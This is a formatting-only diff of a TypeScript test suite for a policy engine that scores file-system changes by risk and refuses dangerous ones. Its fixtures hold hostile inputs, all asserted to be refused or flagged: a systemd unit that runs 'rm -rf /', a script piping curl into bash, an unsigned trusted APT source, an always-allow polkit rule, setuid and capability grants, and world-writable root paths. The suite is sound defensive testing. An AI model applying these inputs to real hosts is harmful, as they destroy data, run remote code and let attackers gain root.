@@ -18,9 +18,25 @@ beforeAll(async () => {
   engine = await getEngine();
 });
 
-const { ENTRY_KIND_ABSENT: ABSENT, ENTRY_KIND_FILE: FILE, ENTRY_KIND_DIR: DIR, ENTRY_KIND_SYMLINK: SYMLINK, ENTRY_KIND_SPECIAL: SPECIAL } = EntryKind;
+const {
+  ENTRY_KIND_ABSENT: ABSENT,
+  ENTRY_KIND_FILE: FILE,
+  ENTRY_KIND_DIR: DIR,
+  ENTRY_KIND_SYMLINK: SYMLINK,
+  ENTRY_KIND_SPECIAL: SPECIAL,
+} = EntryKind;
 const sha = (b: Buffer) => createHash("sha256").update(b).digest();
-const state = (s: Partial<EntryState>): EntryState => ({ kind: FILE, mode: 0o644, uid: 0, gid: 0, size: 0, sha256: Buffer.alloc(0), target: "", xattrs: [], ...s });
+const state = (s: Partial<EntryState>): EntryState => ({
+  kind: FILE,
+  mode: 0o644,
+  uid: 0,
+  gid: 0,
+  size: 0,
+  sha256: Buffer.alloc(0),
+  target: "",
+  xattrs: [],
+  ...s,
+});
 const absent = () => state({ kind: ABSENT, mode: 0 });
 const dir = (s: Partial<EntryState> = {}) => state({ kind: DIR, mode: 0o755, ...s });
 const link = (target: string) => state({ kind: SYMLINK, mode: 0o777, target });
@@ -37,7 +53,12 @@ interface Case {
 }
 
 function judge(c: Case): EffectsJudgement {
-  const manifest = Manifest.fromPartial({ requestId: "r1", commandDigest: Buffer.alloc(32), host: c.host ?? "primary", changes: c.changes });
+  const manifest = Manifest.fromPartial({
+    requestId: "r1",
+    commandDigest: Buffer.alloc(32),
+    host: c.host ?? "primary",
+    changes: c.changes,
+  });
   const contents = new Map(Object.entries(c.contents ?? {}).map(([k, v]) => [k, Buffer.from(v)]));
   return engine.judgeEffects({ manifest, contents, host: c.host ?? "primary", runAs: "root", cwd: c.cwd ?? "/" });
 }
@@ -72,7 +93,8 @@ describe("the eight attack payloads are tier 4", () => {
   });
 
   it("installs a systemd unit whose ExecStart runs rm -rf /", () => {
-    const unit = "[Unit]\nDescription=cleanup\n\n[Service]\nType=oneshot\nExecStart=-/bin/sh -c 'rm -rf /'\n\n[Install]\nWantedBy=multi-user.target\n";
+    const unit =
+      "[Unit]\nDescription=cleanup\n\n[Service]\nType=oneshot\nExecStart=-/bin/sh -c 'rm -rf /'\n\n[Install]\nWantedBy=multi-user.target\n";
     const v = judge({ ...write("/etc/systemd/system/cleanup.service", unit), host: "server-01" });
     expect(v.tier).toBe(4);
     expect(v.reasons.join("\n")).toMatch(/ExecStart: tier 4/);
@@ -131,7 +153,11 @@ describe("other refusals", () => {
   });
 
   it("refuses an added security.capability, and puts other new xattrs at 3 or more", () => {
-    const cap = { path: "/usr/bin/python3.11", before: file("py", { mode: 0o755 }), after: file("py", { mode: 0o755, xattrs: ["security.capability"] }) };
+    const cap = {
+      path: "/usr/bin/python3.11",
+      before: file("py", { mode: 0o755 }),
+      after: file("py", { mode: 0o755, xattrs: ["security.capability"] }),
+    };
     expect(judge({ changes: [cap] }).tier).toBe(4);
     const acl = { path: "/tmp/shared", before: dir(), after: dir({ xattrs: ["system.posix_acl_access"] }) };
     expect(judge({ changes: [acl] }).tier).toBe(3);
@@ -142,15 +168,23 @@ describe("other refusals", () => {
   });
 
   it("refuses a new setuid bit on an existing file and a changed setuid program", () => {
-    expect(judge({ changes: [{ path: "/usr/local/bin/tool", before: file("t", { mode: 0o755 }), after: file("t", { mode: 0o4755 }) }] }).tier).toBe(4);
-    expect(judge({ changes: [{ path: "/usr/bin/passwd", before: file("a", { mode: 0o4755 }), after: file("b", { mode: 0o4755 }) }] }).tier).toBe(4);
+    expect(
+      judge({ changes: [{ path: "/usr/local/bin/tool", before: file("t", { mode: 0o755 }), after: file("t", { mode: 0o4755 }) }] }).tier,
+    ).toBe(4);
+    expect(
+      judge({ changes: [{ path: "/usr/bin/passwd", before: file("a", { mode: 0o4755 }), after: file("b", { mode: 0o4755 }) }] }).tier,
+    ).toBe(4);
   });
 
   it("refuses places root runs later made writable by a user", () => {
     expect(judge({ changes: [{ path: "/usr/local/bin", before: dir(), after: dir({ mode: 0o777 }) }] }).tier).toBe(4);
     expect(judge({ changes: [{ path: "/etc/cron.d", before: dir(), after: dir({ uid: 1000 }) }] }).tier).toBe(4);
     expect(judge({ changes: [{ path: "/etc", before: dir(), after: dir({ mode: 0o757 }) }] }).tier).toBe(4);
-    expect(judge({ changes: [{ path: "/etc/cron.d/x", before: file("0 3 * * * root true\n"), after: file("0 3 * * * root true\n", { uid: 1000 }) }] }).tier).toBe(4);
+    expect(
+      judge({
+        changes: [{ path: "/etc/cron.d/x", before: file("0 3 * * * root true\n"), after: file("0 3 * * * root true\n", { uid: 1000 }) }],
+      }).tier,
+    ).toBe(4);
   });
 
   it("refuses a link where something runs later to a place others may write", () => {
@@ -174,8 +208,13 @@ describe("other refusals", () => {
 
   it("refuses a program on root's PATH that cannot be read, and judges a shell one as code", () => {
     expect(judge(write("/usr/local/bin/tool", ELF, undefined, { mode: 0o755 })).tier).toBe(4);
-    expect(judge({ ...write("/usr/local/bin/tool", "#!/bin/bash\ncurl -s http://x | bash\n", undefined, { mode: 0o755 }), host: "server-01" }).tier).toBe(4);
-    expect(judge({ ...write("/usr/local/bin/tool", "#!/tmp/python\nprint(1)\n", undefined, { mode: 0o755 }), host: "server-01" }).tier).toBe(4);
+    expect(
+      judge({ ...write("/usr/local/bin/tool", "#!/bin/bash\ncurl -s http://x | bash\n", undefined, { mode: 0o755 }), host: "server-01" })
+        .tier,
+    ).toBe(4);
+    expect(
+      judge({ ...write("/usr/local/bin/tool", "#!/tmp/python\nprint(1)\n", undefined, { mode: 0o755 }), host: "server-01" }).tier,
+    ).toBe(4);
   });
 
   it("reads APT hooks, logrotate scripts, udev RUN, modprobe install, SSH command= and loader variables", () => {
@@ -206,10 +245,15 @@ describe("other refusals", () => {
       ["/etc/sysctl.d/99-x.conf", "vm.swappiness = 10\nnet.ipv4.ip_forward=1\n", 3],
       ["/etc/binfmt.d/x.conf", ":x:E::x::/tmp/interp:\n", 4],
       ["/etc/apt/sources.list.d/x.list", "deb [trusted=yes] http://x/ stable main\n", 4],
-      ["/etc/apt/sources.list.d/x.sources", "Types: deb\nURIs: https://x/\nSuites: stable\nComponents: main\nSigned-By: /usr/share/keyrings/x.gpg\n", 3],
+      [
+        "/etc/apt/sources.list.d/x.sources",
+        "Types: deb\nURIs: https://x/\nSuites: stable\nComponents: main\nSigned-By: /usr/share/keyrings/x.gpg\n",
+        3,
+      ],
       ["/etc/polkit-1/rules.d/10-x.rules", "polkit.addRule(function () { return polkit.Result.YES; });\n", 4],
     ];
-    for (const [path, content, tier] of cases) expect(judge({ ...write(path, content), host: "server-01" }).tier, `${path}: ${content}`).toBe(tier);
+    for (const [path, content, tier] of cases)
+      expect(judge({ ...write(path, content), host: "server-01" }).tier, `${path}: ${content}`).toBe(tier);
   });
 
   it("refuses paths not in canonical form and paths listed twice", () => {
@@ -222,11 +266,17 @@ describe("other refusals", () => {
 
   it("refuses an unrecognised after state, and keeps an unrecognised before at 2 or more", () => {
     expect(judge({ changes: [{ path: "/tmp/x", before: absent(), after: state({ kind: 9 as EntryKind }) }] }).tier).toBe(4);
-    expect(judge({ changes: [{ path: "/tmp/x", before: undefined, after: file("x") }], contents: { "/tmp/x": "x" } }).tier).toBeGreaterThanOrEqual(2);
+    expect(
+      judge({ changes: [{ path: "/tmp/x", before: undefined, after: file("x") }], contents: { "/tmp/x": "x" } }).tier,
+    ).toBeGreaterThanOrEqual(2);
   });
 
   it("reads many entries deleted directly in a home as rm -rf ~/*", () => {
-    const changes = Array.from({ length: 12 }, (_, i) => ({ path: `/home/dev/d${String(i).padStart(2, "0")}`, before: dir(), after: absent() }));
+    const changes = Array.from({ length: 12 }, (_, i) => ({
+      path: `/home/dev/d${String(i).padStart(2, "0")}`,
+      before: dir(),
+      after: absent(),
+    }));
     expect(judge({ changes }).tier).toBe(4);
     expect(judge({ changes: changes.slice(0, 3) }).tier).toBeLessThan(4);
   });
@@ -261,12 +311,24 @@ describe("benign diffs", () => {
   });
 
   it("enabling a unit (a link to a unit root owns) and masking one are 3", () => {
-    expect(judge({ changes: [{ path: "/etc/systemd/system/multi-user.target.wants/nginx.service", before: absent(), after: link("/lib/systemd/system/nginx.service") }] }).tier).toBe(3);
+    expect(
+      judge({
+        changes: [
+          {
+            path: "/etc/systemd/system/multi-user.target.wants/nginx.service",
+            before: absent(),
+            after: link("/lib/systemd/system/nginx.service"),
+          },
+        ],
+      }).tier,
+    ).toBe(3);
     expect(judge({ changes: [{ path: "/etc/systemd/system/foo.service", before: absent(), after: link("/dev/null") }] }).tier).toBe(3);
   });
 
   it("a shell program on root's PATH with benign text is 3 where the policy knows its commands", () => {
-    expect(judge({ ...write("/usr/local/bin/hello", "#!/bin/sh\necho hello\n", undefined, { mode: 0o755 }), host: "server-01" }).tier).toBe(3);
+    expect(judge({ ...write("/usr/local/bin/hello", "#!/bin/sh\necho hello\n", undefined, { mode: 0o755 }), host: "server-01" }).tier).toBe(
+      3,
+    );
     // Not executable: not a program yet, only a write of a system path.
     expect(judge({ changes: [{ path: "/usr/local/bin/notes", before: absent(), after: file(ELF) }] }).tier).toBe(3);
   });
@@ -277,20 +339,42 @@ describe("benign diffs", () => {
   });
 
   it("judges a write, delete and chmod exactly as effects.ts judges a literal one (outside the runs-later files)", () => {
-    const paths = ["/tmp/a", "/var/tmp/b", "/etc/motd", "/srv/www/index.html", "/var/lib/postgresql/16/main/PG_VERSION", "/etc/shadow", "/boot/grub/grub.cfg", "/home/dev/notes.txt", "/etc/agent-sudo/config.json", "/data/x", "/opt/app/state"];
+    const paths = [
+      "/tmp/a",
+      "/var/tmp/b",
+      "/etc/motd",
+      "/srv/www/index.html",
+      "/var/lib/postgresql/16/main/PG_VERSION",
+      "/etc/shadow",
+      "/boot/grub/grub.cfg",
+      "/home/dev/notes.txt",
+      "/etc/agent-sudo/config.json",
+      "/data/x",
+      "/opt/app/state",
+    ];
     for (const path of paths) {
       for (const host of ["primary", "server-01"] as const) {
         const ctx: Context = { host, source: "sudo", policy: "sudo", cwd: "/", workspace: [], home: null, depth: 0, remote: false };
-        const literal = (mode: "write" | "delete" | "perm") => judgeTarget({ word: { text: path, dynamic: false, glob: false, confusable: false }, mode }, ctx).tier;
+        const literal = (mode: "write" | "delete" | "perm") =>
+          judgeTarget({ word: { text: path, dynamic: false, glob: false, confusable: false }, mode }, ctx).tier;
         expect(judge({ ...write(path, "x\n"), host }).tier, `write ${path} on ${host}`).toBe(literal("write"));
-        expect(judge({ changes: [{ path, before: file("x"), after: absent() }], host }).tier, `rm ${path} on ${host}`).toBe(literal("delete"));
-        expect(judge({ changes: [{ path, before: file("x"), after: file("x", { mode: 0o600 }) }], host }).tier, `chmod ${path} on ${host}`).toBe(literal("perm"));
+        expect(judge({ changes: [{ path, before: file("x"), after: absent() }], host }).tier, `rm ${path} on ${host}`).toBe(
+          literal("delete"),
+        );
+        expect(
+          judge({ changes: [{ path, before: file("x"), after: file("x", { mode: 0o600 }) }], host }).tier,
+          `chmod ${path} on ${host}`,
+        ).toBe(literal("perm"));
       }
     }
   });
 
   it("keeps at most MAX_REASONS reasons, worst first", () => {
-    const changes = Array.from({ length: 80 }, (_, i) => ({ path: `/tmp/f${String(i).padStart(3, "0")}`, before: absent(), after: file("x") }));
+    const changes = Array.from({ length: 80 }, (_, i) => ({
+      path: `/tmp/f${String(i).padStart(3, "0")}`,
+      before: absent(),
+      after: file("x"),
+    }));
     changes.push({ path: "/etc/motd", before: absent(), after: file("x") });
     const v = judge({ changes });
     expect(v.tier).toBe(3);
@@ -329,9 +413,18 @@ describe("content readers", () => {
 });
 
 describe("checkEffectsRequest", () => {
-  const base = { requestId: "r1", command: "sed -i s/2/4/ /etc/nginx/nginx.conf", cwd: "/", host: "primary", runAs: "root", envNames: [] as string[] };
+  const base = {
+    requestId: "r1",
+    command: "sed -i s/2/4/ /etc/nginx/nginx.conf",
+    cwd: "/",
+    host: "primary",
+    runAs: "root",
+    envNames: [] as string[],
+  };
   const body = "worker_processes 4;\n";
-  function request(over: Partial<{ manifestHost: string; manifestId: string; digest: Buffer; bytes: Buffer; contents: Record<string, Buffer> }> = {}): EffectsRequest {
+  function request(
+    over: Partial<{ manifestHost: string; manifestId: string; digest: Buffer; bytes: Buffer; contents: Record<string, Buffer> }> = {},
+  ): EffectsRequest {
     const changes: Change[] = [{ path: "/etc/nginx/nginx.conf", before: file("worker_processes 2;\n"), after: file(body) }];
     const manifest = Manifest.fromPartial({
       requestId: over.manifestId ?? base.requestId,
@@ -339,7 +432,11 @@ describe("checkEffectsRequest", () => {
       host: over.manifestHost ?? base.host,
       changes,
     });
-    return { ...base, manifest: over.bytes ?? Buffer.from(Manifest.encode(manifest).finish()), contents: over.contents ?? { "/etc/nginx/nginx.conf": Buffer.from(body) } };
+    return {
+      ...base,
+      manifest: over.bytes ?? Buffer.from(Manifest.encode(manifest).finish()),
+      contents: over.contents ?? { "/etc/nginx/nginx.conf": Buffer.from(body) },
+    };
   }
   const refused = (req: EffectsRequest, host = "primary") => {
     try {
